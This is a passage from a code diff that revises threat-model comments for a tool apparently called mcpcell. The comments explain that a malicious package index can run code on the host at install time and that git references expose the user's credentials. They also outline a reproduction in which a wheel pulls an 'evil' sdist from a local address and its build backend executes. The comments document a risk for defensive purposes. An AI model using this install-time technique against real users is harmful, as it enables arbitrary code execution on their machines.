@@ -20,9 +20,10 @@
 // it hosts or merges from other upstreams, a compromised index, a man in
 // the middle of an http:// one — the "malicious registry" of the threat
 // model — runs its code on the user's machine when `mcpcell run uvx://pkg`
-// installs the package, whatever the cell or policy. (A `git+https://` or `git+ssh://`
-// reference runs git on the host with the user's credential helpers and
-// ssh agent; both seen here: pip cloned from the test's address.)
+// installs the package, whatever the cell or policy. (A `git+https://` or
+// `git+ssh://` reference runs git on the host with the user's credential
+// helpers and ssh agent: with this host's pip 23.0.1, a `git+http://`
+// reference had git ask the address for info/refs.)
 //   Reproduce: an index serving top-1.0-py3-none-any.whl with
 //   `Requires-Dist: evil @ http://127.0.0.1:P/evil-1.0.tar.gz`; the sdist's
 //   pyproject.toml names an in-tree backend whose module writes a file on
